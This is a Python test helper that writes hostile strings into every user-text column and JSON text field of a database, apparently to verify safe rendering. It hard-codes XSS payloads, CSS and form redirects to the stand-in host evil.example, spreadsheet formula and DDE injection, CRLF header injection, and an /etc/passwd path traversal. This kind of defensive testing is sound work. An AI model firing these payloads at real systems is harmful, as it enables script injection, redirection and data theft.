"""Texts that try to be more than text, and how they get into every column that holds what somebody wrote.

They go past all validation, straight into the tables: what is shown has to be harmless whatever let it in. Columns come
from the catalogue, so one that is added is planted by itself; those that hold a word of ours are in OURS.
"""

from __future__ import annotations

import re
from typing import Any

import asyncpg
import orjson

from control_plane.store.pool import Connection
from tests.support.hostile import bad_inputs

CANARY = "fwcanary"
"""The function that scripts of these texts call. No page of ours has this word."""
EVIL = "evil.example"

MARKUP = (
    f"<script>{CANARY}()</script>",
    f'"><img src=x onerror={CANARY}()>',
    f"'><svg/onload={CANARY}()>",
    f"</title></style></textarea></script><script>{CANARY}()</script>",
    f'" autofocus onfocus={CANARY}() x="',
    f"x onmouseover={CANARY}() y",
    f"javascript:{CANARY}()//",
    f"-->]]><script>{CANARY}()</script><!--",
    f"&lt;img src=x onerror={CANARY}()&gt;&#60;script&#62;{CANARY}()",
    f'<iframe srcdoc="<script>parent.{CANARY}()</script>">',
    f"</text></svg><a href='javascript:{CANARY}()'>x</a>",
    f"<style>@import'//{EVIL}/x';*{{display:none}}</style>",
    f"red;background:url(//{EVIL}/x)",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}'>",
    f"<base href=//{EVIL}><form action=//{EVIL}><input name=q>",
    f'"/><image href="https://{EVIL}/x"/><foreignObject/>',
)
OTHERS = (
    "{{ 1913*1917 }}${1913*1917}#{1913*1917}<%= 1913*1917 %>{% raw %}",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "\t=1+1",
    "a\r\nBcc: x@evil.example\r\n\r\nhello",
    "a\nEND:VEVENT\nATTENDEE:mailto:x@evil.example",
    "a;b,c\\n\\,\\;:\"'",
    "\u202etxt.exe\u2066\u200b\ufeff\u061c",
    "\x01\x0b\x1b[31m\x7f\x85\u2028\ufffe\uffff",
    "e\u0301" + "\u0336" * 40,
    "\U0001f469\u200d\U0001f4bb\U000e0041\ufdd0",
    "%00%0d%0aSet-Cookie:a=b",
    "../../../etc/passwd",
)

FOR_BROWSERS = (
    f"javascript:{CANARY}()//'\"></title></textarea><img src=x onerror={CANARY}()><svg/onload={CANARY}()>",
    f"<iframe srcdoc='<script>parent.{CANARY}()</script>'><base href=//{EVIL}>\" onfocus={CANARY}()",
)
"""Two that a name of 100 characters holds, and that try what a parser alone cannot tell."""

COLUMNS = """
SELECT c.relname AS "table", a.attname AS "column", a.atttypid = 'text[]'::regtype AS many
FROM pg_class AS c JOIN pg_attribute AS a ON a.attrelid = c.oid
WHERE c.relnamespace = 'public'::regnamespace AND c.relkind IN ('r', 'p') AND NOT c.relispartition AND a.attnum > 0
  AND NOT a.attisdropped AND a.attgenerated = '' AND a.atttypid IN ('text'::regtype, 'text[]'::regtype)
ORDER BY 1, 2
"""
OURS = re.compile(
    r"(state|phase|(?<!system_mails\.)\w*kinds?|type|verdict|previous|plan|severit(y|ies)|role|write_source|source"
    r"|origin|events?|action|operation|capabilities|scopes|prefix|slug|timezone|cron|rrule|\w*digest|\w*token|purpose"
    r"|provider|media_type|trace_id|language|alert_on|region_policy|vote|outcome|notice|custom_domain|held_by|object_id"
    r"|subject|key_id|issuer|data|body|detail|evidence|regions_(up|down)|next|fingerprint|listed|template)"
)
"""Names of columns that hold a word or a number of ours, or a document: what is no such word is a broken row."""
NAMES_OF_OURS = {"installation", "operator_settings", "rollup_walks", "plans", "sealing_keys", "idempotency_keys"}
SHORT = 60
FIRST = re.compile(r"\s*[=@+-]|javascript|a[\r\n;]|red|x on")
"""How texts begin that are worth something at the beginning alone."""
REFUSED = (asyncpg.IntegrityConstraintViolationError, asyncpg.RaiseError, asyncpg.DataError)

DOCUMENTS = {
    "results": "detail",
    "votes": "evidence",
    "events": "data",
    "incidents": "evidence",
    "incident_events": "data",
    "deliveries": "body",
    "audit": "changes",
    "monitors": "check",
}
"""Columns with JSON in which somebody else's words stand."""
WORDS = re.compile(r"message|body_excerpt|status_line|name|title|text|cause|group|note|label|description|Server|owner")


def rounds() -> list[str]:
    """All texts, as many at a time as a name of 100 characters holds; what has to stand first does."""
    found: list[str] = []
    for text in sorted(_texts(), key=lambda each: not FIRST.match(each)):
        room = next((at for at, one in enumerate(found) if len(one) + len(text) < 99 and not FIRST.match(text)), None)
        if room is None:
            found.append(text)
        else:
            found[room] += f" {text}"
    return found


def _texts() -> list[str]:
    """Ours, and every text of the corpus that a name could be."""
    values = [row.value for row in bad_inputs() if isinstance(row.value, str)]
    storable = [each for each in values if 3 < len(each) <= 300 and "\x00" not in each and each.isprintable()]
    found = [each for each in storable if re.search(r"[<>\"'=(){};]|\$", each)]
    return [*MARKUP, *OTHERS, *sorted({each for each in found if not each.startswith("<same")})]


async def plant(conn: Connection, text: str) -> set[str]:
    """The text in every such column of every row, cut where it must be; the columns that took it."""
    planted: set[str] = set()
    for row in await conn.fetch(COLUMNS):
        table, column = row["table"], row["column"]
        if OURS.fullmatch(column) or (column == "name" and table in NAMES_OF_OURS) or table == "yoyo":
            continue
        for attempt in (text, text[:SHORT]):
            if await _planted(conn, table, column, attempt, many=row["many"]):
                planted.add(f"{table}.{column}")
                break
    for table, column in DOCUMENTS.items():
        await _in_documents(conn, table, column, text)
    return planted


async def _planted(conn: Connection, table: str, column: str, text: str, *, many: bool) -> bool:
    value, kind = ([text], "text[]") if many else (text, "text")
    for statement in (
        f'UPDATE "{table}" SET "{column}" = $1::{kind}',
        f'UPDATE "{table}" SET "{column}" = $1::{kind} || ctid::text' if not many else "",
        f'UPDATE "{table}" SET "{column}" = $1::{kind} WHERE "{column}" IS NOT NULL',
    ):
        try:
            async with conn.transaction():
                return bool(statement) and not (await conn.execute(statement, value)).endswith(" 0")
        except REFUSED:
            continue
    return False


async def _in_documents(conn: Connection, table: str, column: str, text: str) -> None:
    rows = await conn.fetch(f'SELECT ctid::text AS at, "{column}"::text AS document FROM "{table}"')
    kind = await conn.fetchval(
        "SELECT data_type FROM information_schema.columns WHERE table_name = $1 AND column_name = $2", table, column
    )
    for row in rows:
        if row["document"] in (None, ""):
            continue
        changed = orjson.dumps(_worded(orjson.loads(row["document"]), text)).decode()
        statement = f'UPDATE "{table}" SET "{column}" = $1::text::{kind} WHERE ctid = $2::text::tid'
        async with conn.transaction():
            await conn.execute(statement, changed, row["at"])


def _worded(value: Any, text: str, name: str = "") -> Any:
    """The document with the text in the place of every word that is not ours."""
    match value:
        case dict():
            return {key: _worded(inner, text, key) for key, inner in value.items()}
        case list():
            return [_worded(inner, text, name) for inner in value]
        case str() if name == "url" and value.startswith("http"):
            return f"{value}?q={text}"
        case str() if WORDS.fullmatch(name):
            return text
        case _:
            return value
